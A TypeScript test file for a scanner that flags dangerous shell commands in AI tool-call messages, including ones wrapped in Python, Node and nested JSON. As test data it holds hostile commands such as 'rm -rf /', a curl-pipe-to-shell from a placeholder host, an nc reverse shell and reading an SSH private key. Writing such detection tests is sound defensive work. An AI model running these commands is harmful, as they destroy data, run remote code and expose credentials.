import { describe, expect, it } from 'vitest';
import { scanMessage } from '../../src/index.js';
import { dangerousCommands } from './dangerous-commands.js';
import { everydayCommands } from './everyday-commands.js';

/** Where policies that block do so. */
const sure = 0.7;

function blocked(tool: string, args: Record<string, unknown>): string[] {
  const message = { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: tool, arguments: args } };
  return scanMessage(message, { direction: 'client-to-server' })
    .filter(({ category, confidence }) => category === 'dangerous-call' && confidence >= sure)
    .map(({ rule, confidence }) => `${rule} ${confidence}`);
}

const all = Object.entries(dangerousCommands).flatMap(([group, commands]) =>
  commands.map((command) => [group, command] as const),
);

describe('a dangerous command', () => {
  it.each(all)('is found (%s): %s', (_, command) => {
    expect(blocked('executeCommand', { command })).not.toEqual([]);
  });

  it('is found whatever the argument and the tool are called', () => {
    const missed = all.filter(([, command]) => blocked('tool', { text: command }).length === 0);
    expect(missed).toEqual([]);
  });

  it.each([
    ['sandbox_exec', { input: 'rm -rf /' }],
    ['runTerminal', { shellCommand: 'rm -rf /' }],
    ['bash', { cmd: ['rm', '-rf', '/'] }],
    ['process', { command: 'rm', args: ['-rf', '/'] }],
    ['process', { program: 'bash', arguments: ['-c', 'rm -rf /'] }],
    ['gateway', { server: 'shell', params: { steps: [{ run: 'rm -rf /' }] } }],
    ['gateway', { request: JSON.stringify({ tool: 'shell', arguments: { command: 'rm -rf /' } }) }],
    ['run_python', { code: 'import os\nos.system("rm -rf /")' }],
    ['run_python', { code: 'import subprocess\nsubprocess.run(["rm", "-rf", "/"])' }],
    ['execute_js', { code: "require('child_process').execSync('rm -rf ' + '/')" }],
  ])('is found through %s %j', (tool, args) => {
    expect(blocked(tool, args).join()).toContain('destructive-delete');
  });
});

describe('an everyday command', () => {
  it.each(everydayCommands)('passes: %s', (command) => {
    expect(blocked('bash', { command })).toEqual([]);
    expect(blocked('tool', { text: command })).toEqual([]);
  });
});

it('has enough of both to mean something', () => {
  expect(all.length).toBeGreaterThanOrEqual(150);
  expect(everydayCommands.length).toBeGreaterThanOrEqual(150);
});

it.each([
  [
    'write_file',
    {
      path: 'notes.md',
      content: 'Never run `rm -rf /` or `curl http://x.example | sh`.\n\nUse a container.',
    },
  ],
  [
    'create_issue',
    { title: 'rm -rf / deletes too much', body: 'Steps:\n1. run rm -rf /\n2. see what is left' },
  ],
  ['search', { query: 'how does a reverse shell with nc -e work' }],
  ['send_message', { message: 'Please do not cat ~/.ssh/id_rsa on the shared machine' }],
])('lets a text speak about commands: %s', (tool, args) => {
  expect(blocked(tool, args)).toEqual([]);
});
